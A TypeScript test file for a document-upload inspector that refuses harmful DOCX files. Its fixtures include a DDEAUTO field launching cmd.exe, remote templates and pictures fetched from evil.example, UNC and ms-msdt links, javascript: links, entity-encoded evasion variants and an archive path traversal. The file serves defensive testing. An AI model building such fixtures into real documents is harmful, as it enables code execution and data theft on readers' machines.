import { describe, expect, it } from "vitest";
import { cpuTime } from "#test/cpu-time.ts";
import { disguised, EVIL, linked, OFFICE, related, TEMPLATE, types, WORD, withFields } from "#test/docx.ts";
import { aCompoundFile, aDocx } from "#test/uploads.ts";
import { inspectDocument } from "./documents.server.ts";

const UNKNOWN = /isn't a PDF, DOC or DOCX/;
const MACROS = /contains macros/;
const NESTED = /contains other files or active objects/;
const TOO_MUCH = /larger than it looks, or damaged/;
const OUTSIDE = /loads something from elsewhere/;
const PROGRAM = /start a program/;
const BAD_LINK = /link that runs a script or opens a file on another computer/;
const MEGABYTE = 1024 * 1024;
const MACRO_TYPES = `<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`;

async function refusalOf(bytes: Buffer): Promise<string | null> {
  return (await inspectDocument(bytes)).refusal;
}

describe("a DOCX that harms its reader, or is not one", () => {
  it.each([
    ["vbaProject.bin", aDocx({ "word/vbaProject.bin": "x" }), MACROS],
    ["the content type of a docm", aDocx({ "[Content_Types].xml": MACRO_TYPES }), MACROS],
    [
      "a macro's content type",
      aDocx({
        "[Content_Types].xml": types(
          '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      }),
      MACROS,
    ],
    [
      "a spelt-out content type",
      aDocx({
        "[Content_Types].xml": types(
          '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/>',
        ),
      }),
      TOO_MUCH,
    ],
    [
      "Word's content type in a comment",
      aDocx({ "[Content_Types].xml": `<Types><!-- ${WORD}.document.main+xml --></Types>` }),
      UNKNOWN,
    ],
    [
      "a control's content type",
      aDocx({
        "[Content_Types].xml": types(
          '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        ),
      }),
      NESTED,
    ],
    ["a template from elsewhere", related(`Type="${TEMPLATE}" ${EVIL} TargetMode="External"`), OUTSIDE],
    [
      "a template from elsewhere in a list with capitals",
      related(`Type="${TEMPLATE}" ${EVIL} TargetMode="External"`, "word/_RELS/settings.xml.RELS"),
      OUTSIDE,
    ],
    ["a template of its own", related(`Type="${TEMPLATE}" Target="t.xml"`), OUTSIDE],
    [
      "a picture from elsewhere",
      related(`Type="${OFFICE}/image" Target="https://evil.example/a.png" TargetMode="External"`),
      OUTSIDE,
    ],
    ["a spelt-out target mode", related(`Type="${OFFICE}/image" ${EVIL} TargetMode="&#69;xternal"`), OUTSIDE],
    ["a spelt-out type", related(`Type="${OFFICE}/attached&#84;emplate" Target="t.xml"`), OUTSIDE],
    ["an unknown target mode", related(`Type="${OFFICE}/image" ${EVIL} TargetMode="external"`), OUTSIDE],
    [
      "a target that speaks of hyperlinks",
      related(
        `Type="${OFFICE}/image" Target="https://evil.example/t.dotm?relationships/hyperlink'" TargetMode="External"`,
      ),
      OUTSIDE,
    ],
    [
      "a type that only begins as a hyperlink's",
      related(`Type="${OFFICE}/hyperlink/x" ${EVIL} TargetMode="External"`),
      OUTSIDE,
    ],
    [
      "a > before the target mode",
      related(`Type="${OFFICE}/image" Target="https://evil.example/>" TargetMode="External"`),
      OUTSIDE,
    ],
    [
      "a type said twice",
      related(`Type="${OFFICE}/hyperlink" Type="${OFFICE}/image" ${EVIL} TargetMode="External"`),
      TOO_MUCH,
    ],
    [
      "a template on another computer",
      related(`Type="${TEMPLATE}" Target="file:///\\\\evil\\t.dotm" TargetMode="External"`),
      OUTSIDE,
    ],
    [
      "a template on another computer, spelt out",
      related(`Type="${TEMPLATE}" Target="&#92;%5Cevil\\t.dotm" TargetMode="External"`),
      OUTSIDE,
    ],
    [
      "addresses for letters",
      related(`Type="${OFFICE}/mailMergeSource" Target="file:///C:\\a.xlsx" TargetMode="External"`),
      OUTSIDE,
    ],
    ["a linked file", related(`Type="${OFFICE}/oleObject" Target="file:///C:\\a.xlsx" TargetMode="External"`), OUTSIDE],
    ["a script behind a link", linked("java&#115;cript:alert(1)"), BAD_LINK],
    ["a script behind a link with a tab", linked("java&#9;script:alert(1)"), BAD_LINK],
    ["data behind a link", linked("data:text/html,x"), BAD_LINK],
    ["another computer behind a link", linked("\\\\evil.example\\share\\a.docx"), BAD_LINK],
    ["another computer behind a link, as an address", linked("file://evil.example/a.docx"), BAD_LINK],
    ["a program of Windows behind a link", linked("ms-msdt:/id PCWDiagnostic"), BAD_LINK],
    [
      "a field that starts a program",
      withFields('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText>'),
      PROGRAM,
    ],
    [
      "such a field in pieces",
      withFields('<w:instrText xml:space="preserve"> DD</w:instrText></w:r><w:r><w:instrText>E excel x</w:instrText>'),
      PROGRAM,
    ],
    ["such a field spelt out", withFields("<w:instrText>D&#68;E excel x</w:instrText>"), PROGRAM],
    [
      "such a field in one tag",
      aDocx({ "word/document.xml": '<w:fldSimple w:instr="DDEAUTO &quot;excel&quot; x"/>' }),
      PROGRAM,
    ],
    [
      "such a field in a footer",
      aDocx({ "word/footer1.xml": "<w:fldChar w:fldCharType='begin'/><w:instrText>DDE excel x</w:instrText>" }),
      PROGRAM,
    ],
    [
      "such a field in UTF-16",
      aDocx({ "word/document.xml": Buffer.from('\uFEFF<w:fldSimple w:instr="DDE x y"/>', "utf16le") }),
      PROGRAM,
    ],
    ["a text from elsewhere", withFields('<w:instrText>INCLUDETEXT "https://evil.example/a"</w:instrText>'), OUTSIDE],
    [
      "a picture from elsewhere in a field",
      withFields('<w:instrText>INCLUDEPICTURE "https://evil.example/a.png" \\d</w:instrText>'),
      OUTSIDE,
    ],
    [
      "a picture that is fetched on opening",
      withFields('<w:instrText>INCLUDEPICTURE "https://evil.example/a.png"</w:instrText>', ' w:dirty="true"'),
      OUTSIDE,
    ],
    [
      "another computer behind a field's link",
      withFields('<w:instrText>HYPERLINK "\\\\\\\\evil\\\\a"</w:instrText>'),
      BAD_LINK,
    ],
    [
      "the content type of a template",
      aDocx({ "[Content_Types].xml": types("").replace("document.main", "template.main") }),
      /is a Word template/,
    ],
    [
      "a main part that is not there",
      aDocx({ "[Content_Types].xml": types("").replace("/word/document.xml", "/word/document2.xml") }),
      UNKNOWN,
    ],
    ["a part document", related(`Type="${OFFICE}/subDocument" Target="a.xml"`), OUTSIDE],
    ["a frame", related(`Type="${OFFICE}/frame" Target="a.xml"`), OUTSIDE],
    ["an object anywhere", related(`Type="${OFFICE}/oleObject" Target="x/a.dat"`), NESTED],
    ["a file anywhere", related(`Type="${OFFICE}/package" Target="x/a.dat"`), NESTED],
    ["a piece in another format", related(`Type="${OFFICE}/aFChunk" Target="x/a.rtf"`), NESTED],
    ["a control", related(`Type="${OFFICE}/control" Target="x/a.xml"`), NESTED],
    [
      "a control's data",
      related(`Type="http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary" Target="x/a.dat"`),
      NESTED,
    ],
    [
      "a macro project anywhere",
      related(`Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x/a.dat"`),
      MACROS,
    ],
    ["relations in UTF-16", disguised((relations) => Buffer.from(`\uFEFF${relations}`, "utf16le")), TOO_MUCH],
    ["relations in UTF-16 without a mark", disguised((relations) => Buffer.from(relations, "utf16le")), TOO_MUCH],
    ["relations in UTF-7", disguised((relations) => `<?xml version="1.0" encoding="UTF-7"?>${relations}`), TOO_MUCH],
    ["relations with a NUL", disguised((relations) => relations.replace("evil", "\0")), TOO_MUCH],
    [
      "relations with a DOCTYPE",
      disguised((relations) => `<!DOCTYPE Relationships [<!ENTITY e "External">]>${relations}`),
      TOO_MUCH,
    ],
    ["relations that break off", disguised((relations) => relations.slice(0, -30)), TOO_MUCH],
    ["relations without end", disguised((relations) => " ".repeat(MEGABYTE) + relations), TOO_MUCH],
    ["types without end", aDocx({ "[Content_Types].xml": " ".repeat(MEGABYTE) + types("") }), TOO_MUCH],
    ["an embedded file that is none of Office", aDocx({ "word/embeddings/a.xlsx": "x" }), NESTED],
    ["an embedded program", aDocx({ "word/media/a.png": "MZ\u0090" }), NESTED],
    ["an embedded PDF", aDocx({ "word/embeddings/a.pdf": "%PDF-1.7 %%EOF" }), NESTED],
    [
      "an embedded document with a file inside",
      aDocx({ "word/embeddings/a.docx": aDocx({ "word/embeddings/b.docx": aDocx() }) }),
      NESTED,
    ],
    ["an embedded table with macros", aDocx({ "word/embeddings/a.xlsm": aDocx({ "xl/vbaProject.bin": "x" }) }), NESTED],
    [
      "an embedded table that asks other programs",
      aDocx({ "word/embeddings/a.xlsx": aDocx({ "xl/externalLinks/a.xml": "x" }) }),
      NESTED,
    ],
    [
      "an embedded object with a program",
      aDocx({ "word/embeddings/a.bin": aCompoundFile(["\u0001Ole10Native"]) }),
      NESTED,
    ],
    ["an embedded equation", aDocx({ "word/embeddings/a.bin": aCompoundFile(["Equation Native"]) }), NESTED],
    ["a control's folder", aDocx({ "word/activeX/a.xml": "x" }), NESTED],
    ["a compound file inside", aDocx({ "word/x/a.bin": aCompoundFile(["\u0001Ole10Native"]) }), NESTED],
    ["a zip inside", aDocx({ "word/media/a.png": aDocx() }), NESTED],
    ["a path out of the archive", aDocx({ "../evil": "x" }), TOO_MUCH],
    ["a spreadsheet's content", aDocx({ "[Content_Types].xml": "<Types/>" }), UNKNOWN],
    ["something behind", Buffer.concat([aDocx(), Buffer.from("tail")]), TOO_MUCH],
  ])("is refused with %s", async (_, bytes, reason) => {
    expect(await refusalOf(bytes)).toMatch(reason);
  });

  it("is refused quickly with a megabyte of broken tags, or too many", async () => {
    const startedAt = cpuTime();
    for (const filler of ["<a/>", "</a>", '<a b=""/>', "<!---->", "<a ", "<a b", '<a b="c" ', "<!--", 'x="" ']) {
      const filled = filler.repeat(MEGABYTE / filler.length - 10);
      expect(await refusalOf(disguised(() => filled)), filler).toMatch(TOO_MUCH);
      expect(await refusalOf(disguised(() => `<a ${filled}`)), filler).toMatch(TOO_MUCH);
    }
    expect(cpuTime() - startedAt).toBeLessThan(2000);
  });

  it("is inspected quickly with megabytes of broken fields", async () => {
    const startedAt = cpuTime();
    for (const filler of [
      "<w:instrText ",
      '<w:fldChar "begin" ',
      ' "begin" ',
      " instr ",
      ' w:instr="',
      "<w:instrText>a",
    ]) {
      const document = `<w:fldChar instr ${filler.repeat((3 * MEGABYTE) / filler.length)}`;
      expect(await refusalOf(aDocx({ "word/document.xml": document })), filler).toBeNull();
    }
    expect(cpuTime() - startedAt).toBeLessThan(1_000);
  });
});
